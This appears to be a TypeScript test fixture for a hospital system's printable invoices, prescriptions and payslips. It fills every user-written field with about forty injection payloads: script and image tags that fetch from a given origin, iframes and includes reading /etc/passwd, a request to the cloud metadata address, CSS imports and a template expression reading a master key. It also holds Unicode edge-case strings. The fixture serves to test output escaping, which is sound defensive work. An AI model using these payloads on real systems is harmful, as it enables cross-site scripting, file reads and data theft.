/** Text that does harm where a template does not escape it, and documents that hold a text in every field that a person writes. */
import {
  exampleInvoice,
  invoicePrintable,
  payslipPrintable,
  prescriptionPrintable,
  type Printable,
  type PrintedClinic,
} from '@hospital/contracts';

/** @param origin an address that nothing may ask */
export const hostileTexts = (origin: string): readonly string[] => [
  `<script>fetch('${origin}/s')</script>`,
  `<script src="${origin}/s.js"></script>`,
  `<img src="${origin}/i.png">`,
  `<img src=x onerror="fetch('${origin}/e')">`,
  `<iframe src="file:///etc/passwd"></iframe>`,
  `<iframe src="${origin}/f"></iframe>`,
  `<iframe srcdoc="<img src='${origin}/d'>"></iframe>`,
  `<object data="file:///etc/passwd"></object>`,
  `<embed src="${origin}/e.pdf">`,
  `<link rel="stylesheet" href="${origin}/l.css">`,
  `<link rel="preconnect" href="${origin}">`,
  `<meta http-equiv="refresh" content="0;url=${origin}/m">`,
  `<base href="${origin}/">`,
  `<style>@import url('${origin}/a.css');</style>`,
  `</style><style>body{background:url(${origin}/b)}</style>`,
  `"; } @import url(${origin}/c); @page { content: "`,
  `" url("${origin}/u") "`,
  `\\"; background: url(${origin}/v)`,
  `url(file:///etc/passwd)`,
  `<svg onload="fetch('${origin}/o')"></svg>`,
  `<svg><image href="${origin}/h"/></svg>`,
  `<svg><use href="${origin}/u.svg#x"/></svg>`,
  `<video src="${origin}/v.mp4" poster="${origin}/p"></video>`,
  `<audio src="${origin}/a.mp3" autoplay></audio>`,
  `<form action="${origin}"><button autofocus onfocus="submit()">x</button></form>`,
  `<details open ontoggle="fetch('${origin}/t')">x</details>`,
  `<img src="http://169.254.169.254/latest/meta-data/">`,
  `<iframe src="http://[::1]:22/"></iframe>`,
  `<a href="javascript:alert(1)" ping="${origin}/p">x</a>`,
  `<img srcset="${origin}/1x 1x, ${origin}/2x 2x">`,
  `<body background="${origin}/bg">`,
  `<td background="${origin}/td">`,
  `--></textarea></title></script><script>1</script>`,
  `<!--#include file="/etc/passwd"-->`,
  `\${process.env.MASTER_KEY} {{7*7}} <%= 7*7 %>`,
  `&lt;script&gt;&#60;img src=x&#62;&amp;`,
  `' onmouseover='fetch("${origin}")' x='`,
  `expression(alert(1)) -moz-binding:url(${origin}/x)`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>">`,
  `<template><slot></slot></template><math><mi href="${origin}">x</mi></math>`,
];

const plain = exampleInvoice();
const clinicOf = (text: string): PrintedClinic => ({
  ...plain.seller,
  name: text,
  address: [text, text],
  phone: text,
  fax: text,
  email: text,
  website: text,
  legalFooter: text,
  identity: {
    ice: text,
    fiscalId: text,
    tradeRegister: text,
    professionalTax: text,
    cnssNumber: text,
    inpe: text,
    rib: text,
  },
});

/** Each kind with the text in every field that a person writes, and how often it then is in the body. */
export const hostileKinds: Readonly<
  Record<string, (text: string) => { document: Printable; times: number }>
> = {
  invoice: (text) => ({
    document: invoicePrintable(
      {
        ...plain,
        seller: {
          ...clinicOf(text),
          bank: { name: text, country: text, city: text, address: text, iban: text, swift: text, rib: text },
        },
        buyer: {
          company: text,
          ice: text,
          name: text,
          email: text,
          patientAddress: text,
          billingAddress: `${text} `,
        },
        visit: { department: text, doctor: text, day: null },
        lines: [{ name: text, description: text, quantity: '1', price: '1.00', amount: '1.00' }],
        otherInformation: text,
      },
      { language: 'en' },
    ),
    times: 30,
  }),
  prescription: (text) => ({
    document: prescriptionPrintable(
      {
        number: 'ORD-2026-000001',
        prescriptionDate: '2026-03-02',
        dueDate: null,
        clinic: clinicOf(text),
        patient: { name: text, birthday: null, address: text, email: text },
        doctor: { name: text, speciality: text, department: text },
        lines: [{ name: text, description: text }],
        otherInformation: text,
        dateFormat: 'd/m/Y',
      },
      { language: 'en' },
    ),
    times: 23,
  }),
  payslip: (text) => ({
    document: payslipPrintable(
      {
        month: '2026-03',
        clinic: clinicOf(text),
        employee: { name: text, email: text, cin: text, role: text, joiningDate: null },
        lines: [{ text: 'baseSalary', base: null, rate: null, earned: '1.00', deducted: null }],
        grossSalary: '1.00',
        deductions: '0.00',
        netSalary: '1.00',
        currency: 'MAD',
        dateFormat: 'd/m/Y',
        sample: false,
      },
      { language: 'en' },
    ),
    times: 18,
  }),
};

/** @param size 100 fills pages in each field, and 10 a page in all of them */
export const oddTexts = (size: number): Readonly<Record<string, string>> => ({
  'pages of text': `Lorem ipsum dolor sit amet. `.repeat(size),
  'pages of Arabic': 'شكراً جزيلاً لكم. '.repeat(size),
  'hundreds of lines': 'a\n'.repeat(size * 3),
  'right-to-left overrides': '\u202egnirts\u202c\u2066x\u2069'.repeat(size),
  'overrides that never end': '\u202e\u202a\u2066\u2067'.repeat(size * 5),
  'control characters': `\u0000one\u0007\u001b[31mtwo\u009bthree\u007f`,
  'halves of characters': `\ud800one\udfff\ud83dtwo\ufffe\uffff`,
  'emoji of several signs': '👩‍👩‍👧🏳️‍🌈🇲🇦'.repeat(size / 2),
  'invisible characters': `one\u200b\u200c\u200d\u2060\ufefftwo\u00ad`.repeat(size / 2),
  'a pile of accents': `e${'\u0301'.repeat(size * 20)}`,
  'wide blanks': `one\u3000\u2003\u00a0two\u2028three\u2029four`,
});
